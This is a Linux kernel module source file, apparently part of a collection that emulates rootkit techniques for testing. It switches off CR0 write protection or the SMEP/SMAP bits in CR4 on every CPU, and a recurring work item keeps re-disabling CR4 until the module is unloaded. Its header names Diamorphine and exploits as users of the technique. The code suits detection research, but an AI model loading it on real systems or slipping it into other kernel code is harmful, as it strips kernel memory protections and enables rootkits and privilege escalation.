// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * Technique: protections of the CPU switched off and left off: CR0.WP (how=wp), SMEP and SMAP in CR4 (how=smep).
 * Who: Diamorphine and nearly every kit for the moment of its writes (WP); exploits (SMEP).
 * Changes: the register on every CPU. Undone when it is unloaded.
 */
#include "attack.h"

#include <linux/smp.h>
#include <linux/workqueue.h>

VARIANT("wp");

static void set(void *off)
{
	unsigned long value;

	if (HOW("wp")) {
		asm volatile("mov %%cr0, %0" : "=r"(value));
		value = off ? value & ~0x10000UL : value | 0x10000UL;
		asm volatile("mov %0, %%cr0" : : "r"(value) : "memory");
	} else {
		asm volatile("mov %%cr4, %0" : "=r"(value));
		value = off ? value & ~0x300000UL : value | 0x300000UL;
		asm volatile("mov %0, %%cr4" : : "r"(value) : "memory");
	}
}

/* The kernel puts CR4 back when it flushes its own pages from the TLB; so it is switched off over and over. */
static void again(struct work_struct *work);
static DECLARE_DELAYED_WORK(repeat, again);
static void again(struct work_struct *work)
{
	on_each_cpu(set, (void *)1, 1);
	schedule_delayed_work(&repeat, 1);
}

static int __init start(void)
{
	on_each_cpu(set, (void *)1, 1);
	if (HOW("smep"))
		schedule_delayed_work(&repeat, 1);
	return 0;
}

static void __exit stop(void)
{
	if (HOW("smep"))
		cancel_delayed_work_sync(&repeat);
	on_each_cpu(set, NULL, 1);
}

ATTACK(start, stop);
